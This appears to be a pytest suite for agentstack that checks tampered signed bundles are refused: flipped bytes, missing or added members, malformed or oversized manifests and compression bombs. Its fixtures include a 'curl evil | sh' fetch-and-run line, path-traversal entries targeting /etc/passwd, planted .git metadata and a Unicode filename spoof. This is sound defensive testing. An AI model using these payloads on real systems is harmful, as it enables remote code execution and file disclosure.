"""Bundles of format 2: the signed statement names a member manifest (`members.jsonl`) by its
blake3, size, member count and bytes; the manifest is read first, checked against the statement,
then line by line in step with the archive. Every tamper is refused with its reason and leaves
nothing behind; a format-1 bundle is still received."""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path
from typing import Any

import blake3
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import agentstack.share.bundle as bundle
import agentstack.share.quarantine as quarantine
import agentstack.share.sshsig as sshsig
from agentstack.canonical import CanonicalError, canonical_bytes
from agentstack.share.archive import BundleRejected
from agentstack.share.keys import allowed_signers
from tests.share.bundle_corpus import (
    NOW,
    Parts,
    base_parts,
    gz,
    make_locked_project,
    raw_member,
    signer,
)
from tests.share.test_bundle_hostile import tree

Listed = list[tuple[str, bytes, bool]]


def _b3(data: bytes) -> str:
    return "b3:" + blake3.blake3(data).hexdigest()


def _line(path: str, data: bytes, executable: bool, kind: str = "file") -> bytes:
    member = {"path": path, "size": len(data), "blake3": _b3(data), "executable": executable,
              "kind": kind}  # fmt: skip
    return canonical_bytes(member) + b"\n"


def lines_of(parts: Parts) -> list[bytes]:
    return [canonical_bytes(m) + b"\n" for m in parts.doc["members"]]


def statement_of(parts: Parts, listed: list[bytes], ref: dict[str, Any] | None = None) -> bytes:
    """The format-2 statement of `parts` whose manifest is `listed` (`ref` overrides fields)."""
    manifest = b"".join(listed)

    def size_of(line: bytes) -> int:
        try:
            return int(json.loads(line)["size"])
        except (ValueError, KeyError, TypeError):
            return 0

    doc = {k: v for k, v in parts.doc.items() if k != "members"}
    doc["agentstack_bundle"] = 2
    doc["manifest"] = {"blake3": _b3(manifest), "size": len(manifest), "members": len(listed),
                       "bytes": sum(size_of(line) for line in listed), **(ref or {})}  # fmt: skip
    return canonical_bytes(doc) + b"\n"


def v2(
    parts: Parts,
    *,
    lines: list[bytes] | None = None,
    archive: Listed | None = None,
    ref: dict[str, Any] | None = None,
    manifest_member: bytes | None = None,
    signature: bytes | None = None,
    manifest_name: str = bundle.MEMBERS_NAME,
) -> bytes:
    """A format-2 bundle of `parts` (its members and their manifest), signed by alice; each
    keyword replaces one piece after or before signing."""
    listed = lines_of(parts) if lines is None else lines
    manifest = b"".join(listed)
    statement = statement_of(parts, listed, ref)
    signed = sshsig.sign(parts.key, statement).encode() if signature is None else signature
    tar = raw_member(bundle.STATEMENT_NAME, statement) + raw_member(bundle.SIGNATURE_NAME, signed)
    tar += raw_member(manifest_name, manifest if manifest_member is None else manifest_member)
    for path, data, executable in parts.members if archive is None else archive:
        tar += raw_member(path, data, mode=0o755 if executable else 0o644)
    return gz(tar + b"\0" * 1024)


@pytest.fixture
def parts(tmp_path: Path) -> Parts:
    project = make_locked_project(tmp_path / "sender")
    allowed_signers().add("alice", signer().public)
    return base_parts(project)


def _home() -> Path:
    return Path(os.environ["AGENTSTACK_HOME"])


def refused(tmp_path: Path, data: bytes, name: str = "hostile.astack") -> BundleRejected:
    """Receive `data`: it must be refused, and nothing anywhere (quarantine included) changes."""
    path = tmp_path / name
    path.write_bytes(data)
    home = _home()
    qroot = quarantine.quarantine_root(home)
    before = tree(tmp_path, home, skip=qroot)
    with pytest.raises(BundleRejected) as caught:
        quarantine.receive(path, now=NOW)
    assert tree(tmp_path, home, skip=qroot) == before
    assert not qroot.exists() or list(qroot.iterdir()) == []
    path.unlink()
    return caught.value


def _flip(data: bytes, index: int) -> bytes:
    return data[:index] + bytes([data[index] ^ 0x01]) + data[index + 1 :]


def _index(listed: Listed, path: str) -> int:
    return next(i for i, m in enumerate(listed) if m[0] == path)


# ------------------------------------------------------------------------------ the good case


def test_a_format_2_bundle_is_received_verified_and_shown(parts: Parts, tmp_path: Path) -> None:
    path = tmp_path / "good.astack"
    path.write_bytes(v2(parts))
    held = quarantine.receive(path, now=NOW).held
    assert (held.path / bundle.MEMBERS_NAME).read_bytes() == b"".join(lines_of(parts))
    statement, contents, principals = quarantine.verify_held(held)
    assert statement.format == 2 and statement.manifest is not None
    assert statement.member_count == len(parts.members) and principals == ["alice"]
    assert set(contents.local) >= {"AGENTS.md", "skills/helper/run.sh"}
    # A quarantined manifest changed afterwards is caught by every later show and release.
    (held.path / bundle.MEMBERS_NAME).write_bytes(b"".join(lines_of(parts)[1:]))
    with pytest.raises(quarantine.Refused, match="was changed"):
        quarantine.verify_held(held)


def test_a_format_1_bundle_is_still_received(parts: Parts, tmp_path: Path) -> None:
    path = tmp_path / "old.astack"
    path.write_bytes(parts.build())
    held = quarantine.receive(path, now=NOW).held
    statement, _contents, _ = quarantine.verify_held(held)
    assert statement.format == 1 and statement.member_count == len(parts.members)
    assert not (held.path / bundle.MEMBERS_NAME).exists()


def test_an_unknown_format_is_refused_with_the_way_out(parts: Parts, tmp_path: Path) -> None:
    parts.doc["agentstack_bundle"] = 3
    problem = refused(tmp_path, parts.build())
    assert problem.code == "unsupported-format" and "upgrade agentstack" in problem.hint


# ------------------------------------------------------------------------------ tampering


def test_a_flipped_byte_in_the_manifest_is_refused(parts: Parts, tmp_path: Path) -> None:
    manifest = b"".join(lines_of(parts))
    for index in (0, len(manifest) // 2, len(manifest) - 2):
        problem = refused(tmp_path, v2(parts, manifest_member=_flip(manifest, index)))
        assert problem.code == "manifest-mismatch", problem.message


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(where=st.floats(min_value=0, max_value=1, exclude_max=True), bit=st.integers(0, 7))
def test_any_flipped_bit_of_the_manifest_is_refused(
    parts: Parts, tmp_path: Path, where: float, bit: int
) -> None:
    manifest = b"".join(lines_of(parts))
    index = int(where * len(manifest))
    changed = manifest[:index] + bytes([manifest[index] ^ (1 << bit)]) + manifest[index + 1 :]
    assert refused(tmp_path, v2(parts, manifest_member=changed)).code == "manifest-mismatch"


def test_a_flipped_byte_in_a_member_is_refused(parts: Parts, tmp_path: Path) -> None:
    archive = list(parts.members)
    index = _index(archive, "files/AGENTS.md")
    path, data, executable = archive[index]
    archive[index] = (path, _flip(data, len(data) // 2), executable)
    problem = refused(tmp_path, v2(parts, archive=archive))
    assert problem.code == "hash-mismatch" and "files/AGENTS.md" in problem.message


def test_a_flipped_byte_in_the_signature_is_refused(parts: Parts, tmp_path: Path) -> None:
    armour = sshsig.sign(parts.key, statement_of(parts, lines_of(parts))).encode()
    rows = armour.split(b"\n")
    head, body, tail = rows[0], rows[1:-2], rows[-2:]
    blob = bytearray(base64.b64decode(b"".join(body)))
    blob[-10] ^= 0x01  # inside the Ed25519 signature itself
    encoded = base64.b64encode(bytes(blob))
    damaged = b"\n".join([head, *(encoded[i : i + 70] for i in range(0, len(encoded), 70)), *tail])
    assert refused(tmp_path, v2(parts, signature=damaged)).code == "bad-signature"


def test_a_member_added_to_the_archive_only_is_refused(parts: Parts, tmp_path: Path) -> None:
    archive = sorted([*parts.members, ("files/AGENTS.mdx", b"run me\n", False)],
                     key=lambda m: m[0].encode())  # fmt: skip
    problem = refused(tmp_path, v2(parts, archive=archive))
    assert problem.code == "unlisted-member" and "AGENTS.mdx" in problem.message
    # At the end of the archive too.
    problem = refused(tmp_path, v2(parts, archive=[*parts.members, ("files/zz", b"x", False)]))
    assert problem.code == "unlisted-member"


def test_a_member_added_to_the_manifest_and_the_archive_is_not_part_of_the_setup(
    parts: Parts, tmp_path: Path
) -> None:
    extra = ("files/extra.sh", b"curl evil | sh\n", True)
    archive = sorted([*parts.members, extra], key=lambda m: m[0].encode())
    lines = [_line(*m) for m in archive]
    assert refused(tmp_path, v2(parts, lines=lines, archive=archive)).code == (
        "unreferenced-member"
    )


def test_a_member_removed_is_refused(parts: Parts, tmp_path: Path) -> None:
    archive = [m for m in parts.members if m[0] != "files/AGENTS.md"]
    assert refused(tmp_path, v2(parts, archive=archive)).code == "missing-member"
    # The last one (nothing after it to notice the gap).
    assert refused(tmp_path, v2(parts, archive=parts.members[:-1])).code == "missing-member"
    # From the manifest too, re-signed: the lock still pins it.
    lines = [_line(*m) for m in archive]
    assert refused(tmp_path, v2(parts, lines=lines, archive=archive)).code == (
        "lock-member-mismatch"
    )


def test_a_member_renamed_is_refused(parts: Parts, tmp_path: Path) -> None:
    for new in ("files/AGENTS.md.bak", "files/A", "files/zzz"):
        archive = list(parts.members)
        index = _index(archive, "files/AGENTS.md")
        archive[index] = (new, *archive[index][1:])
        archive.sort(key=lambda m: m[0].encode())
        problem = refused(tmp_path, v2(parts, archive=archive))
        assert problem.code in ("unlisted-member", "missing-member"), (new, problem.message)


def test_a_member_out_of_order_in_the_archive_is_refused(parts: Parts, tmp_path: Path) -> None:
    archive = list(reversed(parts.members))
    problem = refused(tmp_path, v2(parts, archive=archive))
    assert problem.code in ("unlisted-member", "missing-member")


def test_a_manifest_listing_a_path_twice_is_refused(parts: Parts, tmp_path: Path) -> None:
    lines = lines_of(parts)
    twice = sorted([*lines, lines[1]], key=lambda line: json.loads(line)["path"].encode())
    archive = sorted([*parts.members, parts.members[1]], key=lambda m: m[0].encode())
    problem = refused(tmp_path, v2(parts, lines=twice, archive=archive))
    assert problem.code == "duplicate-member", problem.message


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("files/../../etc/passwd", "dotdot-path"),
        ("/etc/passwd", "absolute-path"),
        ("files/a/.git/config", "git-metadata"),
        ("statement.json", "unexpected-member"),
        ("files/AGENTS.MD", "case-collision"),
        ("files/AGENTS.md/inner", "path-conflict"),
        ("files/x\u202egnp.sh", "control-character"),
    ],
)
def test_a_manifest_line_with_a_hostile_path_is_refused(
    parts: Parts, tmp_path: Path, path: str, code: str
) -> None:
    member = (path, b"x\n", False)
    archive = sorted([*parts.members, member], key=lambda m: m[0].encode())
    lines = [_line(*m) for m in archive]
    assert refused(tmp_path, v2(parts, lines=lines, archive=archive)).code == code


def test_a_repository_in_the_manifest_is_refused(parts: Parts, tmp_path: Path) -> None:
    planted = [("files/skills/helper/HEAD", b"ref: refs/heads/main\n", False),
               ("files/skills/helper/refs/heads/main", b"0" * 40 + b"\n", False)]  # fmt: skip
    archive = sorted([*parts.members, *planted], key=lambda m: m[0].encode())
    lines = [_line(*m) for m in archive]
    assert refused(tmp_path, v2(parts, lines=lines, archive=archive)).code == "git-metadata"


@pytest.mark.parametrize(
    "how",
    ["unsorted", "not-canonical", "not-json", "unterminated", "extra-field", "count", "bytes"],
)
def test_a_malformed_manifest_is_refused(parts: Parts, tmp_path: Path, how: str) -> None:
    lines = lines_of(parts)
    ref: dict[str, Any] = {}
    archive = None
    if how == "unsorted":  # the archive in the same order: the manifest's order is refused
        lines, archive = list(reversed(lines)), list(reversed(parts.members))
    elif how == "not-canonical":
        lines[0] = json.dumps(json.loads(lines[0]), indent=1).replace("\n", " ").encode() + b"\n"
    elif how == "not-json":
        lines[0] = b"{not json}\n"
    elif how == "unterminated":
        lines[-1] = lines[-1].rstrip(b"\n")
    elif how == "extra-field":
        item = json.loads(lines[0])
        item["mode"] = "0755"
        lines[0] = canonical_bytes(item) + b"\n"
    elif how == "count":
        ref = {"members": len(lines) + 1}
    elif how == "bytes":
        ref = {"bytes": sum(len(d) for _, d, _ in parts.members) + 1}
    problem = refused(tmp_path, v2(parts, lines=lines, ref=ref, archive=archive))
    assert problem.code in ("bad-manifest", "missing-member"), problem.message
    if how in ("not-canonical", "not-json", "extra-field", "unsorted"):
        assert problem.code == "bad-manifest"


def test_a_missing_manifest_is_refused(parts: Parts, tmp_path: Path) -> None:
    problem = refused(tmp_path, v2(parts, manifest_name="files/members.jsonl"))
    assert problem.code == "bad-manifest" and "members.jsonl" in problem.message
    # The manifest signed, then its member cut shorter: refused by its size, before reading it.
    manifest = b"".join(lines_of(parts))
    problem = refused(tmp_path, v2(parts, manifest_member=manifest[:-5]))
    assert problem.code == "manifest-mismatch"


def test_a_huge_manifest_is_refused_before_it_is_read(parts: Parts, tmp_path: Path) -> None:
    # Declared larger than a receiver reads: refused from the signed statement alone.
    huge = {"size": bundle.MAX_MANIFEST_BYTES + 1, "members": bundle.MAX_MEMBERS}
    problem = refused(tmp_path, v2(parts, ref=huge))
    assert problem.code == "manifest-too-large", problem.message
    # More than a line per member allows.
    wide = {"size": len(parts.members) * bundle.MAX_MANIFEST_LINE + 1}
    assert refused(tmp_path, v2(parts, ref=wide)).code == "manifest-too-large"
    # Too many members, declared.
    many = {"members": bundle.MAX_MEMBERS + 1}
    assert refused(tmp_path, v2(parts, ref=many)).code == "too-many-members"
    # A real manifest with one line longer than any member needs.
    long_line = _line("files/" + "/".join(["A" * 150] * 20), b"x", False)  # sorts first
    problem = refused(tmp_path, v2(parts, lines=[long_line, *lines_of(parts)]))
    assert problem.code == "bad-manifest" and "too long" in problem.message


def test_a_declared_bomb_is_refused_before_it_is_inflated(parts: Parts, tmp_path: Path) -> None:
    problem = refused(tmp_path, v2(parts, ref={"bytes": bundle.MAX_TOTAL_BYTES}))
    assert problem.code == "compression-bomb", problem.message


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_resigned_change_to_the_manifest_is_refused_or_identical(
    parts: Parts, tmp_path: Path, data: st.DataObject
) -> None:
    """The signer's own manifest, changed anyhow and re-signed (an attacker with a trusted key, or
    a buggy sender): the receiver refuses it with a reason, or holds exactly the locked setup."""
    manifest = bytearray(b"".join(lines_of(parts)))
    index = data.draw(st.integers(0, len(manifest) - 1))
    action = data.draw(st.sampled_from(["flip", "cut", "insert"]))
    if action == "flip":
        manifest[index] ^= 1 << data.draw(st.integers(0, 7))
    elif action == "cut":
        del manifest[index : index + data.draw(st.integers(1, 40))]
    else:
        manifest[index:index] = data.draw(st.binary(min_size=1, max_size=8))
    lines = bytes(manifest).splitlines(keepends=True)
    path = tmp_path / "changed.astack"
    path.write_bytes(v2(parts, lines=lines))
    try:
        held = quarantine.receive(path, now=NOW).held
    except BundleRejected:
        return
    finally:
        path.unlink()
    _statement, contents, _ = quarantine.verify_held(held)
    assert {rel: m.blake3 for rel, m in contents.local.items()} == {
        p.removeprefix("files/"): _b3(d) for p, d, _ in parts.members if p.startswith("files/")
    }
    quarantine.discard(held)


# ------------------------------------------------------------------------------ size


@pytest.mark.slow
def test_more_files_than_format_1_could_carry_travel(tmp_path: Path) -> None:
    """12,000 files: beyond format 1's statement (about 6,000 members) and its 10,000 cap."""
    from agentstack.consent.document import consent_digest, consent_document
    from agentstack.lock.command import run_lock
    from agentstack.lock.resolve import fresh_lock
    from agentstack.manifest.load import load_manifest
    from agentstack.trust.review import TrustStore

    project = tmp_path / "big"
    skill = project / "skills/big"
    for index in range(12_000):
        folder = skill / f"d{index % 60:02d}"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"f{index}.md").write_text(f"line {index}\n")
    (skill / "SKILL.md").write_text("---\nname: big\ndescription: b\n---\n")
    (project / "agentstack.toml").write_text(
        '[project]\nname = "big"\n\n[skills.big]\npath = "skills/big"\n'
    )
    assert run_lock(project=project, check=False, frozen=False, update=False, as_json=False) == 0
    manifest = load_manifest(project)
    document = consent_document(manifest, fresh_lock(project, manifest))
    TrustStore().trust(project, consent_digest(document), document, "b3:" + "0" * 64)
    out = tmp_path / "big.astack"
    with out.open("wb") as handle:
        built = bundle.build(project, signer(), now=NOW, out=handle)
    assert built.data == b"" and built.size == out.stat().st_size
    assert built.statement.member_count == 12_003  # the files, SKILL.md, the manifest, the lock
    other = tmp_path / "bob"
    allowed_signers(other).add("alice", signer().public)
    held = quarantine.receive(out, now=NOW + 60, home=other).held
    statement, contents, _ = quarantine.verify_held(held, home=other)
    assert len(contents.local) == 12_001 and contents.digest == statement.consent


@settings(max_examples=400, deadline=None)
@given(
    path=st.text(min_size=1, max_size=40),
    digest=st.one_of(st.just("b3:" + "a" * 64), st.text(max_size=70)),
    size=st.integers(min_value=0, max_value=1 << 40),
    executable=st.booleans(),
    kind=st.sampled_from(["file", "link"]),
)
def test_a_member_line_is_its_canonical_json(
    path: str, digest: str, size: int, executable: bool, kind: str
) -> None:
    """The manifest line spelled directly is the canonical JSON for every member (a line that
    differed would refuse good bundles, or accept two spellings)."""
    member = bundle.Member(path=path, size=size, blake3=digest, executable=executable, kind=kind)
    try:
        expected = canonical_bytes(member.to_json()) + b"\n"
    except (CanonicalError, UnicodeEncodeError):  # no canonical form (lone surrogates)
        return
    assert member.line() == expected


_COMPONENT = st.text(alphabet="aAbé", min_size=1, max_size=3)
_PATH = st.lists(_COMPONENT, min_size=1, max_size=3).map(lambda parts: "files/" + "/".join(parts))


@settings(max_examples=500, deadline=None)
@given(paths=st.lists(_PATH, min_size=1, max_size=12))
def test_the_streaming_checks_agree_with_the_whole_list_checks(paths: list[str]) -> None:
    """The manifest is checked line by line with hashes, never the whole list: it refuses exactly
    the lists that format 1's whole-list checks refuse (a path twice, two spellings of one path,
    a path inside another's)."""
    import unicodedata

    paths = sorted({unicodedata.normalize("NFC", p) for p in paths} | set(paths),
                   key=lambda p: p.encode())  # fmt: skip
    paths = [p for p in paths if unicodedata.normalize("NFC", p) == p]
    lines = [_line(p, b"", False) for p in paths]
    ref = bundle.ManifestRef(blake3=_b3(b"".join(lines)), size=len(b"".join(lines)),
                             members=len(lines), bytes=0)  # fmt: skip
    keys = [bundle._collision_key(p) for p in paths]
    expected_refused = len(set(keys)) < len(keys) or any(
        "/".join(key.split("/")[:depth]) in set(keys)
        for key in keys
        for depth in range(1, key.count("/") + 1)
    )
    checker = bundle.ManifestChecker(ref)
    try:
        for line in lines:
            checker.feed(line)
        checker.finish()
    except BundleRejected as exc:
        assert expected_refused, (paths, exc.message)
        assert exc.code in ("case-collision", "path-conflict", "duplicate-member")
        return
    assert not expected_refused, paths
